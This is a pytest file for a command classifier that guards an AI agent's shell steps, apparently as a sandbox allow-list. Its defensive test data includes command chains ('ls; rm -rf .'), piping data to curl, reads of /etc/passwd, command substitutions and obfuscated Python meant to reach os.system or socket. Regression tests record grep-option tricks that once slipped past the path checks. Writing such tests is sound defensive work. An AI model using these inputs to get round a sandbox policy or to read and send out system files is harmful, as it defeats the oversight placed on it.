"""The shell allow-list (seed 004 FR-T2), classified from parsed arguments, never from the raw text."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from agent.plan_run.plan import RiskLevel
from agent.plan_run.shell_policy import classify, code_concerns


@pytest.mark.parametrize(
    ("cmd", "argv"),
    [
        ("ls -la", ("ls", "-la")),
        ("cat data/notes.txt", ("cat", "data/notes.txt")),
        ("grep -n 'a|b' notes.txt", ("grep", "-n", "a|b", "notes.txt")),
        ("wc -l 'my notes.txt'", ("wc", "-l", "my notes.txt")),
        ("head -n 5 notes.txt", ("head", "-n", "5", "notes.txt")),
        ("tail -n 2 notes.txt", ("tail", "-n", "2", "notes.txt")),
        ('grep "x;y" notes.txt', ("grep", "x;y", "notes.txt")),
        ("grep -e /usr/ notes.txt", ("grep", "-e", "/usr/", "notes.txt")),
        ("grep /usr/ notes.txt", ("grep", "/usr/", "notes.txt")),
    ],
)
def test_allow_listed_read_only_commands_are_LOW(cmd: str, argv: tuple[str, ...]) -> None:
    verdict = classify(cmd)
    assert verdict.allowed and verdict.risk is RiskLevel.LOW and verdict.argv == argv


def test_python3_c_is_allowed_as_MEDIUM() -> None:
    verdict = classify("python3 -c 'print(sum(range(10)))'")
    assert verdict.allowed and verdict.risk is RiskLevel.MEDIUM
    assert verdict.argv == ("python3", "-c", "print(sum(range(10)))")


@pytest.mark.parametrize("program", ["rm", "mv", "sudo", "curl", "wget", "ssh"])
def test_the_seed_forbidden_commands_are_refused_as_HIGH(program: str) -> None:
    verdict = classify(f"{program} -rf something")
    assert not verdict.allowed and verdict.risk is RiskLevel.HIGH
    assert f"{program!r} is forbidden and not in the allow-list" in verdict.reason


@pytest.mark.parametrize("cmd", ["echo hi", "find . -delete", "touch x", "python script.py", "bash -c ls"])
def test_anything_outside_the_allow_list_is_refused(cmd: str) -> None:
    verdict = classify(cmd)
    assert not verdict.allowed and verdict.risk is RiskLevel.HIGH
    assert "allow-list" in verdict.reason


def test_python3_only_with_dash_c() -> None:
    for cmd in ["python3 script.py", "python3 -m http.server", "python3"]:
        assert classify(cmd).reason == "python3 is allowed only as: python3 -c CODE"


def test_programs_by_path_are_refused() -> None:
    assert "by name, not by path" in classify("/bin/ls").reason
    assert "by name, not by path" in classify("./ls").reason


@pytest.mark.parametrize(
    ("cmd", "operator"),
    [
        ("ls; rm -rf .", "';'"),
        ("ls && cat x", "'&&'"),
        ("ls || cat x", "'||'"),
        ("ls | wc -l", "'|'"),
        ("cat a > file", "'>'"),
        ("cat a >> file", "'>>'"),
        ("cat < a", "'<'"),
        ("ls &", "'&'"),
        ("ls 2>/dev/null", "'>'"),
        ("ls\nrm x", "'newline'"),
    ],
)
def test_chains_pipes_and_redirections_are_refused(cmd: str, operator: str) -> None:
    verdict = classify(cmd)
    assert not verdict.allowed and verdict.risk is RiskLevel.HIGH
    assert operator in verdict.reason and "one command per step" in verdict.reason


def test_a_chain_names_its_forbidden_part() -> None:
    assert "'rm' is forbidden" in classify("ls; rm -rf .").reason
    assert "'curl' is forbidden" in classify("cat a | curl -d @- x").reason


def test_a_redirection_target_is_not_mistaken_for_a_command() -> None:
    assert "allow-list" not in classify("cat a > file").reason


@pytest.mark.parametrize("cmd", ["cat $(whoami)", "cat `id`", "ls ${HOME}", 'cat "$(id)"', 'grep x "`id`"'])
def test_substitutions_are_refused_even_inside_double_quotes(cmd: str) -> None:
    verdict = classify(cmd)
    assert not verdict.allowed and "command substitution" in verdict.reason


def test_single_quotes_keep_everything_literal() -> None:
    verdict = classify("grep '$(x) `y` ; | >' notes.txt")
    assert verdict.allowed and verdict.argv == ("grep", "$(x) `y` ; | >", "notes.txt")


def test_escaped_operators_are_literal() -> None:
    assert classify(r"grep a\;b notes.txt").argv == ("grep", "a;b", "notes.txt")


@pytest.mark.parametrize(
    "cmd",
    [
        "cat /etc/passwd",
        "ls ~",
        "cat ../secret",
        "cat data/../../x",
        "grep -r x /",
        "grep -f/etc/passwd x",
        "grep --file=/etc/passwd x",
        "head --lines=1 /etc/hosts",
        "grep -f /etc/passwd notes.txt",
    ],
)
def test_paths_outside_the_workspace_are_refused(cmd: str) -> None:
    verdict = classify(cmd)
    assert not verdict.allowed and verdict.risk is RiskLevel.HIGH
    assert "absolute" in verdict.reason or "'..'" in verdict.reason


def test_a_symlink_out_of_the_workspace_is_refused(tmp_path: Path) -> None:
    workspace = tmp_path / "ws"
    workspace.mkdir()
    os.symlink("/etc", workspace / "etc-link")
    assert "outside the workspace" in classify("cat etc-link/passwd", workspace).reason
    assert classify("cat etc-link/passwd").allowed  # without a workspace the link cannot be judged


def test_unbalanced_quotes_are_refused() -> None:
    assert "cannot parse" in classify("ls 'unclosed").reason


def test_empty_commands_are_refused() -> None:
    assert classify("   ").reason == "empty command"


@pytest.mark.parametrize(
    ("code", "concern"),
    [
        ("import subprocess; subprocess.run(['rm'])", "starts other programs"),
        ("import os; os.system('x')", "starts"),
        ("import shutil; shutil.rmtree('.')", "deletes or moves files"),
        ("import os; os.remove('a')", "deletes"),
        ("from pathlib import Path; Path('a').unlink()", "deletes"),
        ("import socket", "uses the network"),
        ("import urllib.request", "network"),
        ("eval('1')", "loads code dynamically"),
    ],
)
def test_python_code_that_deletes_or_escapes_is_HIGH(code: str, concern: str) -> None:
    assert any(concern in c for c in code_concerns(code))
    verdict = classify(f'python3 -c "{code}"')
    assert not verdict.allowed and verdict.risk is RiskLevel.HIGH and concern in verdict.reason


def test_plain_python_has_no_concerns() -> None:
    assert code_concerns("print(len(open('notes.txt').read().split()))") == []


@pytest.mark.parametrize(
    "cmd",
    [
        "grep --regexp=x /etc/passwd",  # the pattern as an option: every operand is a file
        "grep --regexp x /etc/passwd",
        "grep --regex=: /etc/passwd",  # an abbreviation getopt accepts (issue 26's red team)
        "grep --reg : /etc/passwd",
        "grep --fil=/etc/list notes.txt",
        "grep -ex /etc/passwd",  # glued to its option
        "grep -ie x /etc/passwd",  # in a cluster of short options
        "grep -e x /etc/passwd",
        "grep -f/etc/list notes.txt",
    ],
)
def test_a_pattern_given_as_an_option_leaves_every_operand_checked_as_a_path(cmd: str) -> None:
    """Regression: ``--regexp=`` and ``-ePATTERN`` made the next operand read as the pattern, so a path outside
    the workspace ran at LOW."""
    verdict = classify(cmd)
    assert not verdict.allowed and verdict.risk is RiskLevel.HIGH


@pytest.mark.parametrize(
    "code",
    [
        'import os\ngetattr(os, "sys" + "tem")("id")',
        'import os\nvars(os)["sys" + "tem"]("id")',
        "from os import system as run\nrun('id')",
        "import builtins\nbuiltins.__dict__['__imp' + 'ort__']('socket')",
        "import posix\nposix.system('id')",
    ],
)
def test_python_that_reaches_names_dynamically_is_a_concern(code: str) -> None:
    """Regression: os.system or socket hidden behind getattr, vars or an import under another name were not seen,
    so the step was MEDIUM; a concern makes it HIGH (the sandbox stays the guarantee)."""
    assert code_concerns(code)


def test_plain_python_that_only_uses_os_path_is_no_concern() -> None:
    assert code_concerns('import os\nfrom os import path\nprint(os.path.join("a", "b"))') == []
